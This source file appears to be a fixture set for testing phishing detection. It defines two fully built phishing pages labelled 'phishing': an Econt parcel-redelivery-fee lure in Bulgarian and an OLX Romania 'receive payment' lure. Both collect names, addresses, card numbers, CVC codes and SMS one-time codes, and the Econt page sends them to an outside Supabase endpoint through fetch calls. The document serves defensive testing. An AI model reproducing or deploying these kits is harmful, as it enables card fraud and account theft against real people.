import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, cardFieldScript, chunks, pctAll } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'econt-bg.dostavka-pratka.com';
  const sb = 'kqxwvnmfrtlpzyhbcdgs.supabase.co';
  const css = `${baseCss}body{background:#eef1f6;font-family:Arial,sans-serif}.hd{background:#234a9b;height:60px;display:flex;align-items:center;padding:0 24px}
.w{max-width:520px;margin:28px auto;background:#fff;border-radius:10px;padding:26px}
.trk{background:#f4f7fc;border-radius:8px;padding:14px;font-size:14px;margin-bottom:16px}
label{display:block;font-size:13px;margin:10px 0 4px;color:#333}input{width:100%;padding:11px;border:1px solid #c4ccd9;border-radius:6px}
.row{display:flex;gap:10px}.row>div{flex:1}.b{width:100%;background:#f58220;color:#fff;border:0;border-radius:6px;padding:13px;margin-top:16px;font-weight:700}`;
  const body = `<div class="hd">${wordmark('Еконт', '#fff', { mark: 'square', text: '#fff', width: 120 })}</div>
<div class="w">
<h2 style="margin-top:0">Пратката ви е задържана</h2>
<div class="trk">Товарителница № <b>1051 8834 2290</b><br>Статус: неуспешна доставка — непълен адрес<br>Такса за повторна доставка: <b>1,99 лв.</b></div>
<div id="a"><label>Име и фамилия</label><input id="nm"><label>Телефон</label><input id="ph" value="+359 "><label>Град</label><input id="ct"><label>Адрес</label><input id="ad"><button class="b" id="n1">Продължи</button></div>
<div id="b" hidden><label>Номер на карта</label><input id="cn" data-card="number"><div class="row"><div><label>Валидност</label><input id="ce" data-card="expiry"></div><div><label>CVC</label><input id="cv" data-card="cvc"></div></div><button class="b" id="n2">Плати 1,99 лв.</button></div>
<div id="c" hidden><p>Плащането се обработва. Ще получите SMS с код за потвърждение.</p><label>Код от SMS</label><input id="ot"><button class="b" id="n3">Потвърди</button></div>
</div>`;
  const js = `${cardFieldScript}<script>
var K='eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoiYW5vbiJ9.3qvQ2s9xXv7bT0kL5m1Zp8YcH4nR6wJ0aE2fD9uS',row={};
function up(o){Object.assign(row,o);return fetch('https://${sb}/rest/v1/entries',{method:'POST',headers:{apikey:K,Authorization:'Bearer '+K,'Content-Type':'application/json',Prefer:'return=minimal'},body:JSON.stringify(row)}).catch(function(){})}
n1.onclick=function(){up({nm:nm.value,ph:ph.value,ct:ct.value,ad:ad.value}).then(function(){a.hidden=true;b.hidden=false})};
n2.onclick=function(){up({cn:cn.value,ce:ce.value,cv:cv.value}).then(function(){b.hidden=true;c.hidden=false})};
n3.onclick=function(){up({ot:ot.value}).then(function(){location.href='https://www.econt.com/'})};
</script>`;
  return {
    id: 'yd-econt-bg-supabase-kit', label: 'phishing', kind: 'parcel-fee-kit',
    url: `https://${host}/bg/`,
    body: page({ lang: 'bg', title: 'Еконт – Проследяване на пратка', head: favicon('#234a9b', 'E'), css, body, scripts: js }),
    routes: { [`${sb}/rest/v1/entries`]: jsonRoute({}, 201) },
  } satisfies Entry;
})(),

(() => {
  const host = 'olx-ro.livrare-sigura.online';
  const css = `${baseCss}body{background:#f2f4f5;font-family:"Geomanist",Arial,sans-serif;color:#002f34}
.hd{background:#002f34;height:64px;display:flex;align-items:center;padding:0 28px}
.w{max-width:900px;margin:26px auto;display:grid;grid-template-columns:3fr 2fr;gap:20px;padding:0 14px}
.c{background:#fff;border-radius:4px;padding:24px}h1{font-size:22px;margin:0 0 14px}
.sum{font-size:30px;font-weight:700;color:#23e5db;background:#002f34;border-radius:4px;padding:12px;text-align:center;margin:14px 0}
label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:12px;border:2px solid #cbd0d1;border-radius:4px}.r{display:flex;gap:10px}.r>div{flex:1}
.b{width:100%;background:#002f34;color:#fff;border:0;padding:14px;border-radius:4px;margin-top:16px;font-weight:700;cursor:pointer}
.step{display:flex;gap:10px;margin:10px 0;font-size:14px}.step i{background:#23e5db;border-radius:50%;width:24px;height:24px;display:inline-flex;align-items:center;justify-content:center;font-style:normal;font-weight:700;flex:none}`;
  const body = `<div class="hd">${wordmark('OLX', '#23e5db', { mark: 'none', width: 80 })}<span style="color:#fff;margin-left:16px">Livrare OLX</span></div>
<div class="w"><div class="c">
<h1>Primește banii pentru produs</h1>
<p>Cumpărătorul <b>Andrei P.</b> a achitat comanda prin Livrare OLX pentru anunțul <b>„Bicicletă MTB Cube Aim 29"“</b>.</p>
<div class="sum">1.450 lei</div>
<form id="of">
<label>Numele titularului cardului</label><input name="titular" required>
<label>Numărul cardului</label><input name="card" data-card="number" required>
<div class="r"><div><label>Data expirării</label><input name="exp" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div>
<label>Soldul disponibil pe card</label><input name="sold" required>
<button class="b">Primește 1.450 lei</button>
</form></div>
<div class="c"><h3 style="margin-top:0">Cum funcționează?</h3>
<div class="step"><i>1</i>Cumpărătorul plătește prin OLX.</div><div class="step"><i>2</i>Introduci datele cardului pentru a primi banii.</div><div class="step"><i>3</i>Curierul Sameday ridică produsul de la tine.</div>
<p style="font-size:13px;color:#406367">Suport Livrare OLX: chat non-stop</p></div></div>`;
  const js = `${cardFieldScript}<script>
of.onsubmit=function(e){e.preventDefault();var fd=new FormData(of);fd.append('ref','olx-4417');
fetch('/api/primeste',{method:'POST',body:fd}).then(function(){location.href='/confirmare?ref=olx-4417'})};
</script>`;
  const conf = page({ lang: 'ro', title: 'Livrare OLX – Confirmare', css, body: `<div class="hd">${wordmark('OLX', '#23e5db', { mark: 'none', width: 80 })}</div><div class="w"><div class="c"><h1>Confirmă primirea fondurilor</h1><p>Banca ta a trimis un cod prin SMS. Introdu codul pentru a finaliza transferul.</p><form action="/api/cod" method="post"><input name="cod" maxlength="8"><button class="b">Confirmă</button></form></div></div>` });
  return {
    id: 'yd-olx-ro-livrare-receive-kit', label: 'phishing', kind: 'classifieds-safe-payment-kit',
    url: `https://${host}/anunt/4417/primeste-banii`,
    body: page({ lang: 'ro', title: 'OLX – Livrare OLX: primește banii', head: favicon('#002f34', 'O', '#23e5db'), css, body, scripts: js }),
    routes: {
      [`${host}/api/primeste`]: jsonRoute({ ok: true }),
      [`${host}/confirmare`]: htmlRoute(conf),
      [`${host}/api/cod`]: redirectRoute(302, 'https://www.olx.ro/'),
    },
  } satisfies Entry;
})(),
];
